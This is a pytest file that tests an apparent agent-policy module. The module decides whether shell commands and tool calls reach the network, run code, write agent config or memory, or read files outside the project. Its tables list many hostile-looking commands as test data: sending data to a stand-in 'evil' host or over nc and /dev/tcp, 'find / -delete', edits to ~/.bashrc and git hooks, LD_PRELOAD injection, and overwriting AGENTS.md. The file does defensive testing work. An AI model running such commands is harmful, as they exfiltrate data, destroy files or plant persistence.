"""What could carry something out of a tainted session, and what taints one."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from shiro_jupyter.core.policy.reach import ELSEWHERE, NETWORK, is_elsewhere, reaches_out, taint_of
from shiro_jupyter.core.policy.subjects import Access, Subject

# `!` reaches out, `.` does not; what it taints by: `n` the network, `f` files
# elsewhere, `.` nothing.
COMMANDS = r"""
!n curl -s https://x.example
!n wget x
!n sudo -u me env A=1 curl x
!n ls | nc host 80
!n echo $(curl x)
!n bash -c 'ssh host ls'
!n scp a host:b
!n rsync -a . host:b
!n aws s3 ls
!n gsutil cp a gs://b
!n busybox wget x
!n timeout 5 curl x
!n xargs curl < list
!n cat < /dev/tcp/host/80
!n python -c 'import urllib.request as u; u.urlopen("x")'
!n python3.12 - <<'EOF'\nimport requests\nEOF
!n python -m http.server
!n python x.py https://x.example
!n pandoc https://x.example
!n node -e 'fetch("x")'
!. git clone https://x.example/a
!. git -C sub fetch
!. git pull --rebase
!. git push
!. git remote update
!. git submodule update --init
!. git ls-remote origin
!. git archive --remote=x HEAD
!. git frobnicate
!. pip install x
!. python -m pip install x
!. python -Impip install x
.. python -m pip list
.. python x.py -m pip
!. uv pip install x
!. conda install x
!. npm install
!. npx x
!. uv run curl-free-script.py; npm ci
.. git status
.. git -C sub status
.. git commit -m 'see https://x.example'
.. git remote -v
.. git remote add o https://x.example/a
.. git log --oneline
.. git
.. pip list
.. conda run -n x python y.py
.. uv run pytest
!. npm test
.. sed -i s/a/b/ x
!. sed -i s/a/b/ AGENTS.md
!. sed -i 's/a/b/e' x
!. sed -i -f x y
!. ./x.sh
!. sh x.sh
!. ./ls
!. bin/cat x
!. node x.js
!. perl -e 'print 1'
!. Rscript x.R
!. tftp x
!. wall x
!. jupyter execute x.ipynb
!. uvx check
!. pipx run x
!. uv python install 3.13
!. unknown-tool
!. python -m unknown_module
!. psql -h x
!. tox
!. yarn
!. npx -y x
!. cargo build
!. git config core.fsmonitor x
!. git -c core.pager=x log
!. git lfs pull
!. git grep -Osh x
!. find . -exec sh {} +
!. awk 'BEGIN{system("x")}'
!. LD_PRELOAD=./x.so ls
!. GIT_SSH_COMMAND=x git status
!. export PATH=.
!. f() { x; }; f
!. echo x > .git/hooks/post-commit
!. cp a .github/workflows/x.yml
!. cd .shiro; echo x >> config.toml
!f cd .shiro && cp ../a memory/MEMORY.md
!. cd .git/hooks && touch x
!. cd $x && touch y
!. echo x > agents.md
.. git config --get user.name
.. cp a b && mv b c && rm c && mkdir d
.. ls | sort | uniq -c | head -3
.. for f in *.csv; do wc -l "$f"; done
.. if [ -f x ]; then cat x; fi
.. CUDA_VISIBLE_DEVICES=0 pytest -q
.. x=1; echo $x
.. .venv/bin/pytest -q
.. /usr/bin/env ls
.. timeout 5 pytest
.. bash -c 'ls | wc -l'
.. ruff check . && mypy
.. grep -r https:// src
.. cd sub; cat x
.. for f in *.csv; do cat $f; done
.f X=/etc; cat $X/hostname
.f for f in /etc/h*; do cat $f; done
.f cat $(ls /etc/hostname)
.f read x <<< /etc/hostname; cat "$x"
!f cp /etc/hostname h
!f ln -s /etc/hostname h
!f cp -t . /etc/hostname
!f dd if=/etc/hostname of=h
.. python x.py
.. python -c 'print(1)'
.. python -m pytest
.. echo https://x.example
.. grep -r '/x' src
.. sed -n '/a/,/b/p' x
.. awk '/a/ {print}' x
.. ls /usr/lib
.. find / -name x
!. cd sub && make
.. cd sub && pytest
!. make test
.. pytest > /dev/null 2>&1
.. cat x/../y
.f cat /etc/hosts
.f head -n 3 ../other/a.csv
.f grep -r x ~/notes
.f grep -e x /etc/hosts
!f cat < /etc/hosts
.f cd .. && cat x
.f cd && cat x
.f bash -c 'cat /etc/hosts'
.. cat /ours/outputs/1.txt
!f cat /ours/outputs/../../etc/hosts > .shiro/x
!. cp a /tmp/b
!. cp a ~/b
!. cp a "$HOME/b"
!. cp a ../b
!. echo x > ../b
!. echo x >> ~/.bashrc
!. tee /etc/x
!. dd if=a of=/tmp/b
!. tar -C /tmp -xf a.tar
!. tar --directory=/tmp -xf a.tar
!. cd / && touch x
!. cd && rm x
!f sort -o /tmp/x x
!. find / -delete
!. echo x >> .shiro/memory/MEMORY.md
!. cp a sub/AGENTS.md
!. python /elsewhere/x.py
!. f=AGENTS.md; cp a $f
!. for f in AGENTS.md; do cp a $f; done
!. f=AGE; f+=NTS.md; cp a $f
!. read f; cp a $f
!. cp a $1
!. cp a ${f%x}
!. cp a A*.md
!. tee A*.md < a
!. cat a > AGENTS.m?
!. cat a > $f
!. cp a .sh*/memory/MEMORY.md
!. cp a sub/[Aa]gents.md
!. cp a *
!. cp a {AGENTS.m{d,x},b}
!. cp a site*.py
!. rm .g*/hooks/x
!. echo AGENTS.md | xargs cp a
!. echo AGENTS.md | xargs -n1 timeout 5 cp a
!. sed -i s/a/b/ A*
!. git rm $f
!. d=/tmp; cp a $d/x
!. d=..; echo x > "${d}/x"
!. python -c 'open("AGENTS.md","w")'
!. python - <<'EOF'\nopen(".shiro/memory/x", "w")\nEOF
!. echo 'open("AGENTS.md","w")' | python
!. tar cf evil:x .
!. tar -xf me@evil:x
!. pytest --pastebin=all
!. pytest --past all
!. python -m pytest --pastebin=all
!. mypy --install-types --non-interactive x
!. git archive --remot=evil:x HEAD
!. pip list -i https://x.example
!. zip -T -TT 'curl x' a b
!. install --strip-prog=./x -s a b
.. for f in *.csv; do cp "$f" out/; done
.. d=out; mkdir -p $d; cp a $d/x
.. rm *.pyc build/*.o
.. sed -i s/a/b/ src/*.py
.. mv *.csv data/
.. pytest tests/*
.. pytest "$x"
.. git add *.md
.. git commit -m "$m"
.. ls | xargs wc -l
.. cat AGENTS.md; python x.py
.. tar czf a.tgz src
.. git log --remotes
.. git reset HEAD
.. git diff origin/HEAD
.. printf '%s' "$x"
!. $x
!. echo ls | sh
"""

CALLS = r"""
.. read_file read a.py
.f read_file read /elsewhere/a
.. read_file read /ours/outputs/1.txt
.f read_many_files read a.py /elsewhere/a
.. write_file write a.py
!. write_file write sub/HEAD
!. write_file write /elsewhere/a
!. write_file write .shiro/memory/MEMORY.md
!. edit_file write sub/agents.md
!. remember memory x
.. todo_write session x
.. run_python kernel df.describe()
!n run_python kernel pd.read_csv("https://x.example/a.csv")
!n run_python kernel requests.get(u)
.. run_python kernel requests.groupby("day")
!n run_python kernel !curl\tx
!n run_python kernel %pip\tinstall\tx
!n run_python kernel subprocess.run(["git","push"])
"""
OURS = (Path("/ours/outputs"),)
TAINTS = {"n": NETWORK, "f": ELSEWHERE, ".": ""}


def rows(table: str) -> list[tuple[str, str]]:
    return [(line[:2], line[3:]) for line in table.strip().splitlines()]


@pytest.mark.parametrize(("expected", "command"), rows(COMMANDS))
def test_command_lines(expected: str, command: str) -> None:
    subject = Subject("bash", "shell", (command.replace("\\n", "\n"),))
    assert reaches_out(subject) == (expected[0] == "!")
    assert taint_of(subject, OURS) == TAINTS[expected[1]]


@pytest.mark.parametrize(("expected", "row"), rows(CALLS))
def test_calls(expected: str, row: str) -> None:
    tool, access, *texts = row.split(" ")
    said = tuple(text.replace("\\t", " ") for text in texts)
    subject = Subject(tool, access, said)  # type: ignore[arg-type]
    assert reaches_out(subject) == (expected[0] == "!")
    assert taint_of(subject, OURS) == TAINTS[expected[1]]


def test_a_path_that_leaves_the_project() -> None:
    for path in (
        "/",
        "/etc/x",
        "~",
        "~x/y",
        "$HOME/x",
        "${HOME}",
        "..",
        "a/../../b",
        "C:\\x",
        "c:/x",
    ):
        assert is_elsewhere(path), path
    for path in ("a", "./a", "a/..", "a/../b", "..a", "/dev/null", "/dev/fd/2", "", "a~", "x:y"):
        assert not is_elsewhere(path), path


def test_what_is_judged_in_time_however_long_it_is() -> None:
    began = time.process_time()
    for piece in ("a ", "://", "x=/", "[", "pip ", "../"):
        subject = Subject("bash", "shell", ("foo " + piece * (30_000 // len(piece)),))
        accesses: tuple[Access, ...] = ("shell", "kernel", "write", "read")
        for access in accesses:
            one = Subject("t", access, subject.texts)
            reaches_out(one)
            taint_of(one)
    assert time.process_time() - began < 3
